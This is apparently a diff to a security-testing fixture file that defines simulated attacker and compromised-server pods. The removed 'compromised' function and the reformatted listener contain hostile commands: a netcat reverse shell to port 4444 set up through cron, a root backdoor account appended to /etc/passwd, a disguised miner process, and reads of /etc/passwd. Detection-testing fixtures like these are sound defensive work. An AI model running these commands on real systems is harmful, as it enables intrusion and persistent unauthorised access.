@@ -50,7 +50,9 @@ export const web = pod(SHOP, 'web', [
 ]);
 
 /** An attacker's machine: answers reverse shells on port 4444. */
-export const peer = pod(SHOP, 'peer', [{ name: 'listener', command: ['answer', '4444', 'unset HISTFILE', 'cd /tmp', 'id', 'cat /etc/passwd'] }]);
+export const peer = pod(SHOP, 'peer', [
+  { name: 'listener', command: ['answer', '4444', 'unset HISTFILE', 'cd /tmp', 'id', 'cat /etc/passwd'] },
+]);
 
 /** Reverse shells to an address, dialled by a program of their own and by busybox's nc. */
 export function reverseShell(address: string) {
@@ -92,29 +94,3 @@ export const zoo = pod(SHOP, 'zoo', [
     ],
   },
 ]);
-
-/**
- * A web server after a break-in: a reverse shell to an address, a miner that runs from memory under a kernel thread's
- * name, a program whose file was removed, a file dropped in /tmp and an account added. Every secret is made up.
- */
-export function compromised(address: string) {
-  const script = [
-    'cp /bin/vanish /tmp/.sshd; /tmp/.sshd &',
-    "loader '[kworker/0:1]' &",
-    "echo 'toor:x:0:0::/root:/bin/sh' >>/etc/passwd",
-    `echo '* * * * * nc ${address} 4444 -e /bin/sh' >/tmp/.cron`,
-    `dial ${address} 4444 &`,
-    'exec httpd -f -p 8080 -h /www',
-  ];
-  return pod(SHOP, 'web', [
-    {
-      name: 'app',
-      command: ['sh', '-c', script.join('\n')],
-      env: {
-        AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
-        AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
-        DB_PASSWORD: 'correct-horse-battery-staple',
-      },
-    },
-  ]);
-}
